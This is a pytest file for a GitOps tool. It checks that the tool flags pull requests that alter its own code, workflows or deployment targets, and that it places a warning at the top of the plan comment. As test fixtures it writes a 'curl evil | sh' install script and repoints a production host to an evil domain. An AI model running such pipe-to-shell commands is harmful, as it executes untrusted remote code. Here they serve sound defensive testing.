"""`reconciler gitops changes`: what a pull request does to the tool itself, and the warning
at the top of the plan comment."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from gitops.fake_github import FakeGitHub
from gitops.gitrepo import commit_all, git, init
from reconciler.cli import cli
from reconciler.gitops.github import plan_marker
from reconciler.gitops.trust import ToolChanges, target_changes, tool_changes

PROJECT = """\
project: demo
targets:
  local: {type: sandbox}
  dev: {type: databricks, profile: DEV}
  prod: {type: databricks, host: https://prod.example.com, variables: {catalog: prod}}
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository holding the tool's code and workflows and, in infra/, a project."""
    repo = init(tmp_path / "repo")
    for path, text in {
        "reconciler/cli.py": "print('tool')\n",
        "pyproject.toml": "[project]\nname = 'x'\n",
        ".github/workflows/plan.yml": "on: pull_request\n",
        "infra/reconciler.yaml": PROJECT,
        "infra/manifests/models.yaml": "registered_models: []\n",
        "docs/readme.md": "hi\n",
    }.items():
        (repo / path).parent.mkdir(parents=True, exist_ok=True)
        (repo / path).write_text(text)
    commit_all(repo, "base")
    git(repo, "checkout", "-q", "-b", "pr")
    return repo


def changes(repo: Path) -> dict[str, object]:
    result = CliRunner().invoke(
        cli, ["--project", str(repo / "infra"), "gitops", "changes", "--base", "main"]
    )
    assert result.exit_code == 0, result.output
    data = json.loads(result.output)
    assert isinstance(data, dict)
    return data


def edit(repo: Path, path: str, text: str) -> None:
    (repo / path).parent.mkdir(parents=True, exist_ok=True)
    (repo / path).write_text(text)
    commit_all(repo, f"edit {path}")


def test_manifests_and_docs_are_not_the_tool(repo: Path) -> None:
    edit(repo, "infra/manifests/models.yaml", "registered_models: [{name: a.b.c}]\n")
    edit(repo, "docs/readme.md", "more\n")
    edit(repo, "infra/reconciler.yaml", PROJECT.replace("catalog: prod", "catalog: prod2"))
    data = changes(repo)
    assert data == {"base": "main", "tool": [], "workflows": [], "targets": [], "untrusted": False}


def test_code_and_workflow_changes_are_named(repo: Path) -> None:
    edit(repo, "reconciler/cli.py", "print('evil')\n")
    edit(repo, "pyproject.toml", "[project]\nname = 'y'\n")
    edit(repo, "scripts/install.sh", "curl evil | sh\n")
    edit(repo, ".github/workflows/plan.yml", "on: pull_request_target\n")
    data = changes(repo)
    assert data["tool"] == ["pyproject.toml", "reconciler/cli.py", "scripts/install.sh"]
    assert data["workflows"] == [".github/workflows/plan.yml"]
    assert data["untrusted"] is True


def test_a_target_aimed_elsewhere_is_named(repo: Path) -> None:
    edit(
        repo,
        "infra/reconciler.yaml",
        PROJECT.replace("https://prod.example.com", "https://evil.example.com").replace(
            "profile: DEV", "profile: DEV, host: https://dev.example.com"
        )
        + "  extra: {type: mlflow, tracking_uri: 'https://mlflow.example.com'}\n",
    )
    data = changes(repo)
    assert data["targets"] == [
        "target `dev`: host `None` → `https://dev.example.com`",
        "target `extra` added (type `mlflow`, tracking_uri `https://mlflow.example.com`)",
        "target `prod`: host `https://prod.example.com` → `https://evil.example.com`",
    ]
    assert data["untrusted"] is True


def test_a_project_file_that_does_not_parse_counts_as_a_change() -> None:
    (sentence,) = target_changes(PROJECT, "targets: [", "reconciler.yaml")
    assert sentence.startswith("reconciler.yaml: the targets could not be compared")
    assert target_changes(None, PROJECT, "reconciler.yaml")[0].startswith("target `dev` added")
    assert target_changes(PROJECT, PROJECT.replace("dev:", "dev2:"), "r.yaml") == [
        "target `dev` removed",
        "target `dev2` added (type `databricks`, profile `DEV`)",
    ]


def test_compared_from_the_merge_base(repo: Path) -> None:
    """Tool changes landed on main after the branch point are not this pull request's."""
    edit(repo, "infra/manifests/models.yaml", "registered_models: []\n# pr\n")
    git(repo, "checkout", "-q", "main")
    edit(repo, "reconciler/cli.py", "print('newer on main')\n")
    git(repo, "checkout", "-q", "pr")
    assert not tool_changes(repo, "main", project_dir=repo / "infra").untrusted


def test_pull_request_text_in_the_warning_is_inert() -> None:
    changes = ToolChanges(
        base="0123456789abcdef",
        tool=("reconciler/`x`\n@team.py", *(f"reconciler/m{i}.py" for i in range(12))),
        targets=("target `prod`: host `a` → `b`",),
    )
    banner = changes.banner()
    assert banner.startswith("> [!WARNING]\n> **This pull request changes the tool itself.**")
    assert "`0123456789ab`" in banner
    tool_line = next(line for line in banner.splitlines() if "tool code:" in line)
    assert tool_line.startswith("> - tool code: `reconciler/'x'?@team.py`, `reconciler/m0.py`")
    assert tool_line.endswith(" and 3 more")
    assert all(line.startswith("> ") for line in banner.splitlines())
    assert ToolChanges.from_json(changes.to_json()) == changes
    assert ToolChanges(base="x").banner() == ""


def test_the_comment_starts_with_the_warning(github: FakeGitHub, tmp_path: Path) -> None:
    pr = github.state.add_issue("pr", "", pr=True)["number"]
    plan = tmp_path / "plan.md"
    plan.write_text("**Plan: 1 to create, 0 to update, 0 to replace, 0 to delete.**\n")
    found = tmp_path / "changes.json"
    found.write_text(ToolChanges(base="abc", workflows=(".github/workflows/plan.yml",)).to_json())
    quiet = tmp_path / "quiet.json"
    quiet.write_text(ToolChanges(base="abc").to_json())

    def comment(changes: Path) -> str:
        args = ["gitops", "comment", "-t", "prod", "--pr", str(pr), "--exit-code", "2"]
        args += ["--plan", str(plan), "--changes", str(changes)]
        result = CliRunner().invoke(cli, args, env=github.env(), catch_exceptions=False)
        assert result.exit_code == 0, result.output
        (posted,) = github.state.comments_on(pr)
        body = posted["body"]
        assert isinstance(body, str)
        return body

    body = comment(found)
    first = body.removeprefix(plan_marker("prod")).lstrip("\n").splitlines()
    assert first[0] == "> [!WARNING]"
    assert "`.github/workflows/plan.yml`" in first[2]
    assert body.index("changes the tool itself") < body.index("**Plan: 1 to create")
    assert "changes the tool itself" not in comment(quiet)


def test_bad_changes_file_is_a_clear_error(github: FakeGitHub, tmp_path: Path) -> None:
    pr = github.state.add_issue("pr", "", pr=True)["number"]
    bad = tmp_path / "changes.json"
    bad.write_text("not json")
    args = ["gitops", "comment", "-t", "prod", "--pr", str(pr), "--exit-code", "0"]
    result = CliRunner().invoke(cli, [*args, "--changes", str(bad)], env=github.env())
    assert result.exit_code == 1
    assert "not the output of `reconciler gitops changes`" in result.output
    assert github.state.comments_on(pr) == []
